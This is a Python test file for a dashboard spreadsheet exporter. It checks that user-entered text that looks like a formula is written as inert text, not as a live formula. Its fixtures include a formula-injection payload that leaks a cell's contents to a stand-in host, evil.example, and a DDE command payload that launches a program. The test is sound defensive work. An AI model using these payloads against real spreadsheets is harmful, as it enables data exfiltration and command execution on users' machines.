"""Issue 27 item 3: text in the dashboard workbook is never a live formula."""

import io
import zipfile
from datetime import date

from insights.dashboards.params import DashboardParams
from insights.dashboards.xlsx import Sheet, dashboard_workbook
from insights.periods import Period

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'


def _parts(content: bytes) -> tuple[str, str]:
    book = zipfile.ZipFile(io.BytesIO(content))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    strings = book.read("xl/sharedStrings.xml").decode()
    return sheet, strings


def test_text_that_looks_like_a_formula_is_written_as_neutralised_text():
    # given: a lost reason any rep may add, in a table and as a headline label
    sheet = Sheet("lost", "Lost reasons")
    sheet.figures.append(("+cmd|' /C calc'!A0", 3, "count"))
    sheet.tables.append(
        ("Lost reasons", ["Reason", "@Deals"], [(HOSTILE, 2), ("-2+3", 1), ("Mahal", 4)])
    )
    period = Period(date(2026, 2, 1), date(2026, 2, 28))
    params = DashboardParams(period=period, granularity="month", scope="all", order="desc")

    # when
    xml, strings = _parts(dashboard_workbook(params=params, sheets=[sheet]))

    # then: no formula cell at all, and each hostile text kept as text behind an apostrophe
    assert "<f>" not in xml and "<f " not in xml
    assert "'=HYPERLINK(" in strings.replace("&quot;", '"')
    assert "'+cmd|" in strings
    assert "'-2+3" in strings
    assert "'@Deals" in strings
    assert ">Mahal<" in strings  # ordinary text untouched
    assert "<v>2</v>" in xml  # numbers stay numbers
